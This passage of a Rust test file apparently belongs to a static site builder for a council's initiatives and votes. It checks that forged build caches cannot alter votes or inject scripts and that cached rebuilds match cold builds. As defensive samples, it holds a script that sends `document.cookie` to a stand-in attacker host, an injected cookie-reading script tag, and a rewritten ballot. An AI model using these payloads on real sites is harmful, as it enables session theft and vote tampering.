    let outs = tempfile::tempdir().unwrap();
    let cold = c.cold(&outs.path().join("cold"));
    let scores = |d: &OpenData| OpenData::json(&d.votes, "charte")["scores"].clone();
    assert_eq!(scores(&cold)["yes"], 2, "{}", scores(&cold));

    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    build(c.root(), &outs.path().join("there"), there.path()).assert_ok();
    let honest = std::fs::read(c.root().join(STATEMENTS)).unwrap();
    // Every ballot that says `yes` now says `no`: the comment and its length, as the layout has
    // them.
    let yes = [&15u32.to_le_bytes()[..], b"pnyx/1 vote yes"].concat();
    let no = [&14u32.to_le_bytes()[..], b"pnyx/1 vote no"].concat();
    let honest_body = &honest[..honest.len() - 32];
    let mut body = Vec::with_capacity(honest_body.len());
    let (mut i, mut changed) = (0, 0);
    while i < honest_body.len() {
        if honest_body[i..].starts_with(&yes) {
            body.extend_from_slice(&no);
            i += yes.len();
            changed += 1;
        } else {
            body.push(honest_body[i]);
            i += 1;
        }
    }
    assert_eq!(
        changed, 1,
        "the honest file holds the one ballot that says yes now"
    );
    let seal = |key: &[u8; 32]| hmac_sealed(body.clone(), key);
    let plant = |bytes: &[u8]| std::fs::write(c.root().join(STATEMENTS), bytes).unwrap();

    // Sealed with the attacker's key: not believed.
    build(c.root(), &outs.path().join("warm-up"), here.path()).assert_ok();
    plant(&seal(&machine_key(there.path())));
    let out = outs.path().join("foreign");
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(
        OpenData::of(&out),
        cold,
        "a foreign statement cache changed the result"
    );

    // Sealed with this machine's key (which no attacker has): believed, and it would count.
    plant(&seal(&machine_key(here.path())));
    let out = outs.path().join("ours");
    build(c.root(), &out, here.path()).assert_ok();
    let forged = scores(&OpenData::of(&out));
    assert_eq!(
        (forged["yes"].clone(), forged["no"].clone()),
        (1.into(), 1.into()),
        "the forged file says something: {forged}"
    );

    // The same file committed in a pull request: never read, even with this machine's seal.
    plant(&seal(&machine_key(here.path())));
    c.force_add(STATEMENTS);
    c.commit(day(26), "speed up the builds");
    let out = outs.path().join("committed");
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(
        scores(&OpenData::of(&out)),
        scores(&cold),
        "a committed statement cache changed the result"
    );
}

const SEARCH: &str = ".pnyx-cache/search.bin";

/// What the build said of its search index: kept from the last build, or made.
fn search_index_kept(run: &Run) -> bool {
    let line = run
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("timing: search index: "))
        .unwrap_or_else(|| panic!("no search index line:\n{run}"));
    line.starts_with("kept")
}

/// The files of the search index in the output folder `out`.
fn search_files(out: &Path) -> std::collections::BTreeMap<String, Vec<u8>> {
    read_tree(out)
        .into_iter()
        .filter(|(path, _)| path.starts_with("pagefind"))
        .collect()
}

/// Builds the council into `out` with the caches of `home`, and again with no cache at all:
/// asserts that both sites are the same byte for byte, and says whether the first kept the
/// search index of the build before.
fn warm_equals_cold(c: &Council, out: &Path, home: &Path) -> (PathBuf, bool) {
    let run = build(c.root(), out, home);
    run.assert_ok();
    let cold = out.with_extension("cold");
    c.cold(&cold);
    assert!(
        read_tree(out) == read_tree(&cold),
        "the warm site differs from the cold one"
    );
    (out.to_path_buf(), search_index_kept(&run))
}

/// The search index is kept between builds when Pagefind would read every page the same. A
/// pull request that adds a signature, and one that edits an initiative beside a signature,
/// hope to leave a stale index: after each, the site, its search index included, is byte for
/// byte the one a build without any cache makes; only the signature alone keeps the index.
#[test]
fn a_text_edited_beside_a_new_signature_is_searched_and_a_signature_alone_keeps_the_index() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let first = build(c.root(), &outs.path().join("first"), home.path());
    first.assert_ok();
    assert!(!search_index_kept(&first), "{first}");
    assert!(c.root().join(SEARCH).exists(), "the build keeps its search index");

    let support = |k: &Key, slug: &str| format!("signatures/initiatives/{slug}/{}.minisig", k.id);
    c.sign(
        &c.members[1],
        TRAM,
        "pnyx/1 support",
        &support(&c.members[1], "tram"),
    );
    c.commit(day(9), "a new signature");
    let (warm, kept) = warm_equals_cold(&c, &outs.path().join("signed"), home.path());
    assert!(kept, "a signature alone keeps the index");
    assert!(
        std::fs::read_to_string(warm.join("initiatives/tram/index.html"))
            .unwrap()
            .contains(&c.members[1].id.to_string()),
        "the new signature shows"
    );

    // The cold build removed the caches: they are made again for the next step.
    build(c.root(), &outs.path().join("warm-again"), home.path()).assert_ok();
    c.write(
        TRAM,
        &String::from_utf8(c.read(TRAM))
            .unwrap()
            .replace("Tram de nuit.\n", "Tram de nuit jusqu'à deux heures.\n"),
    );
    c.sign(
        &c.members[2],
        TRAM,
        "pnyx/1 support",
        &support(&c.members[2], "tram"),
    );
    c.commit(day(10), "a text edited beside a signature");
    let (warm, kept) = warm_equals_cold(&c, &outs.path().join("edited"), home.path());
    assert!(!kept, "an edited text makes the index again");
    assert!(
        search_files(&warm) != search_files(&outs.path().join("signed")),
        "the edit reaches the index"
    );
}

/// `bytes` as the search cache's layout has them, with the file `name` of the index replaced
/// by `new`.
fn with_search_file(bytes: &[u8], name: &str, new: &[u8]) -> Vec<u8> {
    let body = &bytes[..bytes.len() - 32];
    let mut at = 8;
    let u32_at = |at: usize| u32::from_le_bytes(body[at..at + 4].try_into().unwrap()) as usize;
    let skip_str = |at: usize| at + 4 + u32_at(at);
    for _ in 0..3 {
        at = skip_str(at); // the version of Pagefind, the program's digest, the language
    }
    at += 32; // the key
    let pages = u32_at(at);
    at += 4;
    for _ in 0..pages {
        at = skip_str(at) + 64;
    }
    let files = u32_at(at);
    at += 4;
    for _ in 0..files {
        let path = std::str::from_utf8(&body[at + 4..skip_str(at)]).unwrap();
        let bytes_at = skip_str(at);
        let end = bytes_at + 4 + u32_at(bytes_at);
        if path == name {
            let mut out = body[..bytes_at].to_vec();
            out.extend_from_slice(&(new.len() as u32).to_le_bytes());
            out.extend_from_slice(new);
            out.extend_from_slice(&body[end..]);
            return out;
        }
        at = end;
    }
    panic!("no {name} in the search cache");
}

/// The search cache holds the index and Pagefind's runtime, which the site serves as code. An
/// attacker writes one (its layout is public) whose `pagefind.js` is a script of theirs, and
/// seals it with a key of their own, or commits it in a pull request: neither is read, and the
/// site's search is the one a build without any cache makes. Only a file sealed with this
/// machine's own key would be believed, which the test shows, so that the forged file does say
/// something.
#[test]
fn a_search_cache_from_another_machine_or_a_pull_request_cannot_put_a_script_in_the_site() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let cold = outs.path().join("cold");
    c.cold(&cold);
    let script = b"fetch('https://attacker.example/?' + document.cookie);".to_vec();
    let runtime = "pagefind/pagefind.js";
    let served = |out: &Path| std::fs::read(out.join(runtime)).unwrap();
    assert!(served(&cold) != script);

    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    build(c.root(), &outs.path().join("there"), there.path()).assert_ok();
    let body = with_search_file(&std::fs::read(c.root().join(SEARCH)).unwrap(), runtime, &script);
    let seal = |key: &[u8; 32]| hmac_sealed(body.clone(), key);
    let plant = |bytes: &[u8]| std::fs::write(c.root().join(SEARCH), bytes).unwrap();

    // Sealed with the attacker's key: not believed.
    build(c.root(), &outs.path().join("warm-up"), here.path()).assert_ok();
    plant(&seal(&machine_key(there.path())));
    let out = outs.path().join("foreign");
    let run = build(c.root(), &out, here.path());
    run.assert_ok();
    assert!(!search_index_kept(&run), "{run}");
    assert!(
        read_tree(&out) == read_tree(&cold),
        "a foreign search cache changed the site"
    );

    // Sealed with this machine's key (which no attacker has): believed, and it would be served.
    plant(&seal(&machine_key(here.path())));
    let out = outs.path().join("ours");
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(served(&out), script, "the forged file says something");

    // The same file committed in a pull request: never read, even with this machine's seal.
    plant(&seal(&machine_key(here.path())));
    c.force_add(SEARCH);
    c.commit(day(26), "speed up the builds");
    let out = outs.path().join("committed");
    let run = build(c.root(), &out, here.path());
    run.assert_ok();
    assert!(!search_index_kept(&run), "{run}");
    assert_eq!(
        served(&out),
        served(&cold),
        "a committed search cache changed the site"
    );
}

const PAGES: &str = ".pnyx-cache/pages.bin";
const TRAM_PAGE: &str = "initiatives/tram/index.html";

/// What the build said of its pages: how many it kept from the last build, how many it
/// rendered, and the rest of the line.
fn pages_line(run: &Run) -> (usize, usize, String) {
    let line = run
        .stderr
        .lines()
        .find_map(|l| l.strip_prefix("timing: pages: "))
        .unwrap_or_else(|| panic!("no pages line:\n{run}"));
    let number = |word: &str| -> usize {
        let before = line.split(word).next().unwrap_or("");
        before
            .split_whitespace()
            .last()
            .unwrap_or("")
            .parse()
            .unwrap_or_else(|_| panic!("{line}"))
    };
    (number(" kept"), number(" rendered"), line.to_string())
}

/// `pages.bin`'s body (without its seal) with the digest of the page at `path` replaced by
/// that of `bytes`: the attacker's page, which they put in the output folder.
fn with_page_digest(file: &[u8], path: &str, bytes: &[u8]) -> Vec<u8> {
    let mut body = file[..file.len() - 32].to_vec();
    let u32_at = |body: &[u8], at: usize| u32::from_le_bytes(body[at..at + 4].try_into().unwrap()) as usize;
    let mut at = 8;
    for _ in 0..2 {
        at += 4 + u32_at(&body, at); // the program's digest, the output folder
    }
    let pages = u32_at(&body, at);
    at += 4;
    for _ in 0..pages {
        let end = at + 4 + u32_at(&body, at);
        let name = std::str::from_utf8(&body[at + 4..end]).unwrap().to_string();
        if name == path {
            body[end + 32..end + 64].copy_from_slice(&Sha256::digest(bytes));
            return body;
        }
        at = end + 64;
    }
    panic!("no {path} in the list of pages");
}

/// The council built once into `public/` of a temporary folder, with a pnyx folder of its own:
/// the folders (outputs, pnyx's), the output folder and the run.
fn built_once(c: &Council) -> (tempfile::TempDir, tempfile::TempDir, PathBuf, Run) {
    let outs = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let out = outs.path().join("public");
    let first = build(c.root(), &out, home.path());
    first.assert_ok();
    (outs, home, out, first)
}

/// The default theme's `base.html`, for a site to override.
fn default_base() -> String {
    std::fs::read_to_string(Path::new(env!("CARGO_MANIFEST_DIR")).join("themes/default/templates/base.html"))
        .unwrap()
}

/// A page of the last build is used again when its inputs are the same, read back from the
/// output folder. Someone edits a page there (by hand, or by a pull request that commits the
/// output folder) and hopes the next build keeps it: it is rendered again, and the site is the
/// one a build without any cache makes.
#[test]
fn a_page_edited_in_the_output_folder_is_rendered_again_not_kept() {
    let c = Council::new(true);
    let (outs, home, out, first) = built_once(&c);
    let (kept, rendered, _) = pages_line(&first);
    assert!(kept == 0 && rendered > 10, "{first}");
    let again = build(c.root(), &out, home.path());
    again.assert_ok();
    assert_eq!(
        pages_line(&again).0,
        rendered,
        "nothing changed: every page is kept\n{again}"
    );

    let page = out.join(TRAM_PAGE);
    let genuine = std::fs::read_to_string(&page).unwrap();
    let evil = genuine.replace("</main>", "<script>alert(document.cookie)</script></main>");
    assert!(evil != genuine);
    std::fs::write(&page, &evil).unwrap();
    let run = build(c.root(), &out, home.path());
    run.assert_ok();
    let (kept, rendered, line) = pages_line(&run);
    assert_eq!((kept, rendered), (rendered_total(&first) - 1, 1), "{run}");
    assert!(line.contains("1 changed in the output folder"), "{line}");
    let site = read_tree(&out);
    let cold = outs.path().join("cold");
    c.cold(&cold);
    assert!(site == read_tree(&cold), "the edited page was kept");
}

fn rendered_total(run: &Run) -> usize {
    let (kept, rendered, _) = pages_line(run);
    kept + rendered
}

/// The list of pages says which bytes stand for a key. An attacker writes one (its layout is
/// public) that vouches for a page of theirs, which they put in the output folder, and seals
/// it with a key of their own, or commits it in a pull request: neither is read, and the page
/// is the one a build without any cache makes. Only a list sealed with this machine's own key
/// would be believed, which the test shows, so that the forged list does say something.
#[test]
fn a_pages_list_from_another_machine_or_a_pull_request_cannot_put_a_page_in_the_site() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let cold = outs.path().join("cold");
    c.cold(&cold);
    let genuine = std::fs::read_to_string(cold.join(TRAM_PAGE)).unwrap();
    let evil = genuine.replace("</main>", "<script>alert(document.cookie)</script></main>");

    let (here, there) = (tempfile::tempdir().unwrap(), tempfile::tempdir().unwrap());
    let out = outs.path().join("public");
    build(c.root(), &out, there.path()).assert_ok();
    let body = with_page_digest(
        &std::fs::read(c.root().join(PAGES)).unwrap(),
        TRAM_PAGE,
        evil.as_bytes(),
    );
    let seal = |key: &[u8; 32]| hmac_sealed(body.clone(), key);
    let plant = |list: &[u8]| {
        std::fs::write(c.root().join(PAGES), list).unwrap();
        std::fs::write(out.join(TRAM_PAGE), &evil).unwrap();
    };
    let served = || std::fs::read_to_string(out.join(TRAM_PAGE)).unwrap();

    // Sealed with the attacker's key: not believed.
    build(c.root(), &outs.path().join("warm-up"), here.path()).assert_ok();
    plant(&seal(&machine_key(there.path())));
    let run = build(c.root(), &out, here.path());
    run.assert_ok();
    assert_eq!(pages_line(&run).0, 0, "{run}");
    assert!(
        read_tree(&out) == read_tree(&cold),
        "a foreign list changed the site"
    );

    // Sealed with this machine's key (which no attacker has): believed, and served.
    plant(&seal(&machine_key(here.path())));
    build(c.root(), &out, here.path()).assert_ok();
    assert_eq!(served(), evil, "the forged list says something");

    // The same list committed in a pull request: never read, even with this machine's seal.
    plant(&seal(&machine_key(here.path())));
    c.force_add(PAGES);
    c.commit(day(26), "speed up the builds");
    let run = build(c.root(), &out, here.path());
    run.assert_ok();
    assert_eq!(pages_line(&run).0, 0, "{run}");
    assert_eq!(served(), genuine, "a committed list changed the site");
}

/// A pull request that adds a signature hopes that the pages it changes are kept stale; one
/// that edits a template of the site's theme, the same. After each, only what changed is
/// rendered again, and the site is byte for byte the one a build without any cache makes.
#[test]
fn a_new_signature_or_an_edited_template_renders_again_what_it_changes() {
    let c = Council::new(true);
    let (outs, home, out, first) = built_once(&c);
    let total = rendered_total(&first);
    let matches_cold = |step: &str| {
        let site = read_tree(&out);
        let cold = outs.path().join(step);
        c.cold(&cold);
        assert!(
            site == read_tree(&cold),
            "{step}: the site differs from a cold build's"
        );
        // The cold build removed the caches: they are made again for the next step.
        build(c.root(), &out, home.path()).assert_ok();
    };

    let support = format!("signatures/initiatives/tram/{}.minisig", c.members[1].id);
    c.sign(&c.members[1], TRAM, "pnyx/1 support", &support);
    c.commit(day(9), "a new signature");
    let run = build(c.root(), &out, home.path());
    run.assert_ok();
    let (kept, rendered, _) = pages_line(&run);
    assert!(kept > total / 2 && rendered >= 2, "{run}");
    assert!(
        std::fs::read_to_string(out.join(TRAM_PAGE))
            .unwrap()
            .contains(&c.members[1].id.to_string()),
        "the new signature shows"
    );
    matches_cold("signed");

    let base = default_base();
    let marked = base.replace("</footer>", "<p>Imprimé par le conseil</p></footer>");
    assert!(marked != base);
    c.write("themes/default/templates/base.html", &marked);
    c.commit(day(10), "a word in the footer");
    let run = build(c.root(), &out, home.path());
    run.assert_ok();
    assert_eq!(pages_line(&run).0, 0, "every page has the footer\n{run}");
    assert!(std::fs::read_to_string(out.join(TRAM_PAGE))
        .unwrap()
        .contains("Imprimé par le conseil"));
    matches_cold("template");
}

/// A theme that calls one of Tera's functions whose result the page's variables do not decide
/// (`get_env`, `now`, `get_random`) has no page kept: each build shows what the function says
/// then, not what it said the build before.
#[test]
fn a_theme_that_reads_the_environment_has_no_page_kept() {
    let c = Council::new(true);
    let outs = tempfile::tempdir().unwrap();
    let home = tempfile::tempdir().unwrap();
    let out = outs.path().join("public");
    let base = default_base();
    c.write(
        "themes/default/templates/base.html",
        &base.replace(
            "</footer>",
            "<p>Édition {{ get_env(name=\"COUNCIL_EDITION\", default=\"?\") }}</p></footer>",
        ),
    );
    c.commit(day(9), "the edition in the footer");
    let edition = |n: &str| {
        let run = pnyx_env(
            [
                OsStr::new("build"),
                OsStr::new("--root"),
                c.root().as_os_str(),
                OsStr::new("--out"),
                out.as_os_str(),
            ],
            &[
                ("PNYX_HOME", Some(home.path().as_os_str())),
                ("PNYX_TIMINGS", Some(OsStr::new("1"))),
                ("COUNCIL_EDITION", Some(OsStr::new(n))),
            ],
        );
        run.assert_ok();
        (
            std::fs::read_to_string(out.join(TRAM_PAGE)).unwrap(),
            pages_line(&run).0,
        )
    };
    assert!(edition("1").0.contains("Édition 1"));
    let (page, kept) = edition("2");
    assert!(page.contains("Édition 2"), "the page shows the new edition");
    assert_eq!(kept, 0);
}

/// After a new signature, the files that did not change are the last build's own (the same
/// file, with its modification time: a deploy that compares sizes and times skips them), the
/// pages it changed are written, and the site is a cold build's.
#[cfg(unix)]
#[test]
fn a_new_signature_writes_the_files_it_changes_and_keeps_the_others_with_their_times() {
    use std::os::unix::fs::MetadataExt as _;
    let c = Council::new(true);
    let (outs, home, out, first) = built_once(&c);
    let files_line = |run: &Run| -> (usize, usize) {
        let line = run
            .stderr
            .lines()
            .find_map(|l| l.strip_prefix("timing: files: "))
            .unwrap_or_else(|| panic!("no files line:\n{run}"));
        let numbers: Vec<usize> = line.split_whitespace().filter_map(|w| w.parse().ok()).collect();
        (numbers[0], numbers[1])
    };
    assert_eq!(files_line(&first).0, 0, "nothing to link from on the first build");
    let stamp = |path: &str| {
        let meta = std::fs::metadata(out.join(path)).unwrap();
        (meta.ino(), meta.mtime(), meta.mtime_nsec())
    };
    let (style, tram) = (stamp("assets/style.css"), stamp(TRAM_PAGE));

    let support = format!("signatures/initiatives/tram/{}.minisig", c.members[1].id);
    c.sign(&c.members[1], TRAM, "pnyx/1 support", &support);
    c.commit(day(9), "a new signature");
    let run = build(c.root(), &out, home.path());
    run.assert_ok();
    let (linked, written) = files_line(&run);
    assert!(linked > 0 && written > 0, "{run}");
    assert_eq!(
        stamp("assets/style.css"),
        style,
        "an unchanged file was written again"
    );
    assert_ne!(
        stamp(TRAM_PAGE),
        tram,
        "the page of the initiative signed was not written"
    );
    assert!(std::fs::read_to_string(out.join(TRAM_PAGE))
        .unwrap()
        .contains(&c.members[1].id.to_string()));
    assert_eq!(std::fs::metadata(out.join(TRAM_PAGE)).unwrap().nlink(), 1);
    let cold = outs.path().join("cold");
    c.cold(&cold);
    assert!(
        read_tree(&out) == read_tree(&cold),
        "the site differs from a cold build's"
    );
}
